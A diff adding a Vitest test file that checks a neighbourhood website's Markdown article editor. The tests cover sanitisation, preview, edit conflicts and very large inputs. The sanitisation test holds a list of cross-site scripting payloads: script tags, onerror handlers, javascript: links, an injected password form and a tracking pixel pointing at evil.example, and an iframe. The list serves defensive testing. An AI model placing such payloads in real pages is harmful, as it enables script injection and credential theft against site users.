@@ -1,0 +1,151 @@
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+
+import { articles } from '#db/schema';
+import { type AttackServer, startAttackServer } from '#tests/support/attack-server';
+
+/* What a manager types in Markdown is seen by everybody: through the forms and the pages, as a browser gets it. */
+
+const section = 'commons-board/News';
+
+let server: AttackServer;
+let manager: string;
+let resident: string;
+beforeAll(async () => {
+  server = await startAttackServer();
+  manager = await server.cookieOf('demo-manager');
+  resident = await server.cookieOf('demo-user');
+});
+afterAll(() => server.close());
+
+const get = (path: string, Cookie: string) => server.send(path, { headers: { Cookie } });
+
+const post = (path: string, form: Record<string, string>, Cookie = manager) =>
+  server.send(path, {
+    ...{ method: 'POST', body: new URLSearchParams(form).toString() },
+    headers: { Cookie, 'Content-Type': 'application/x-www-form-urlencoded' },
+  });
+
+/** Of an article with this title, which there is one of. */
+async function idOf(title: string): Promise<string> {
+  const rows = await server.database.db.select().from(articles).where(eq(articles.title, title));
+  expect(rows).toHaveLength(1);
+  return rows[0]!.id;
+}
+
+/** What stands in the page where the text is. */
+const proseOf = (html: string): string =>
+  /<div class="prose[^>]*>(?<prose>[\s\S]*?)<\/div>/.exec(html)?.groups?.prose ?? '';
+
+/** The page's text to a person; what React puts between two texts is none. */
+const said = (html: string): string => html.replaceAll('<!-- -->', '');
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '</div></article><form action=https://evil.example><input name=password>',
+  '[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,x) [d](//evil.example)',
+  '![pixel](https://evil.example/pixel.png)',
+  '<iframe src="https://evil.example"></iframe> <a href="javascript:alert(1)" onclick=x()>e</a>',
+].join('\n\n');
+
+test('an article shows no more than Markdown, in the preview and to everybody', async () => {
+  const form = { section, title: '"><script>alert(1)</script>', body: hostile };
+  const preview = await post('/manage/articles/preview', form);
+  expect(preview.status).toBe(200);
+  expect((await post('/manage/articles/new', form)).status).toBe(303);
+  const article = await get(`/wellbeing/neighborhood/articles/${await idOf(form.title)}`, resident);
+  expect(article.status).toBe(200);
+  for (const { body } of [preview, article]) {
+    const prose = proseOf(body);
+    expect(prose).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
+    expect([...prose.matchAll(/<([a-z]\w*)/g)].map((match) => match[1])).not.toEqual(
+      expect.arrayContaining([expect.stringMatching(/^(?!p$|a$)/)]),
+    );
+    // Of the addresses that stand in it only one that leads to the web is a link, and tells nothing.
+    for (const [link] of prose.matchAll(/<a [^>]*>/g))
+      expect(link).toMatch(/^<a href="https:\/\/evil\.example[^"]*" rel="noopener noreferrer nofollow" /);
+    expect(body).not.toContain('<script>alert(1)');
+  }
+  const board = await get('/wellbeing/neighborhood/pulse/commons-board', resident);
+  expect(board.status).toBe(200);
+  expect(board.body).not.toContain('<script>alert(1)');
+});
+
+test('a preview stores nothing and keeps all that was typed, also what does not fit', async () => {
+  const count = () => server.database.db.$count(articles);
+  const before = await count();
+  const form = { section, title: 'A "title" & more', body: '# One\n\n**two**', formToken: 'the-token' };
+  const shown = await post('/manage/articles/preview', form);
+  expect(proseOf(shown.body)).toBe('<h3>One</h3>\n<p><strong>two</strong></p>\n');
+  expect(shown.body).toContain('value="A &quot;title&quot; &amp; more"');
+  expect(shown.body).toMatch(/<option value="commons-board\/News" selected="">/);
+  expect(shown.body).toContain('# One\n\n**two**</textarea>');
+  expect(shown.body).toMatch(/name="formToken" value="the-token"/);
+  const long = await post('/manage/articles/preview', { ...form, body: 'y'.repeat(5001) });
+  expect(long.status).toBe(400);
+  expect(said(long.body)).toContain('The text can have at most 5,000 characters.');
+  expect(long.body).toContain(`${'y'.repeat(5001)}</textarea>`);
+  expect(proseOf(long.body)).toBe('');
+  expect(await count()).toBe(before);
+  // Where nothing was sent there is nothing to show but the empty form.
+  expect((await get('/manage/articles/preview', manager)).status).toBe(200);
+});
+
+describe('an article that another manager changes meanwhile', () => {
+  const form = { section, title: 'Changed by two', body: 'As it was.' };
+  const revisionOf = (html: string) =>
+    /name="revision" value="(?<revision>\d+)"/.exec(html)?.groups?.revision;
+
+  test('answers 409 in place: what was typed stays, beside what there is now', async () => {
+    expect((await post('/manage/articles/new', form)).status).toBe(303);
+    const path = `/manage/articles/${await idOf(form.title)}/edit`;
+    expect(revisionOf((await get(path, manager)).body)).toBe('1');
+    expect((await post(path, { ...form, body: 'Theirs.', revision: '1' })).status).toBe(303);
+    // Pressed twice it is saved all the same.
+    expect((await post(path, { ...form, body: 'Theirs.', revision: '1' })).status).toBe(303);
+
+    const mine = { ...form, body: 'Mine, and long in the making.' };
+    const told = await post(path, { ...mine, revision: '1' });
+    expect(told.status).toBe(409);
+    expect(said(told.body)).toContain('Another manager changed this article in the meantime');
+    expect(told.body).toContain('Mine, and long in the making.</textarea>');
+    expect(told.body).toMatch(/How it reads now[\s\S]*Theirs\./);
+    // Who has read that and saves again means it; a text that does not fit does not get them past it.
+    expect(revisionOf(told.body)).toBe('2');
+    expect((await post(path, { ...mine, body: '', revision: '2' })).status).toBe(400);
+    expect((await post(path, { ...mine, revision: '2' })).status).toBe(303);
+    const articleId = await idOf(form.title);
+    expect((await get(`/wellbeing/neighborhood/articles/${articleId}`, resident)).body).toContain(
+      'Mine, and long',
+    );
+  });
+
+  test('a preview in between changes nothing of that', async () => {
+    const articleId = await idOf(form.title);
+    const shown = await post('/manage/articles/preview', { ...form, articleId, revision: '1' });
+    expect(revisionOf(shown.body)).toBe('1');
+    expect(shown.body).toContain(`action="/manage/articles/${articleId}/edit"`);
+    const odd = await post('/manage/articles/preview', {
+      ...form,
+      articleId: '//evil.example',
+      revision: '1',
+    });
+    expect(odd.status).toBe(400);
+    expect(odd.body).not.toContain('action="//evil.example');
+  });
+});
+
+test('a text without end in itself is an answer like any other', async () => {
+  for (const mark of ['>', '[', '- ', '![', '*a **b ', '[a]('])
+    expect(
+      (
+        await post('/manage/articles/preview', {
+          section,
+          title: mark,
+          body: mark.repeat(5000 / mark.length),
+        })
+      ).status,
+      mark,
+    ).toBe(200);
+});
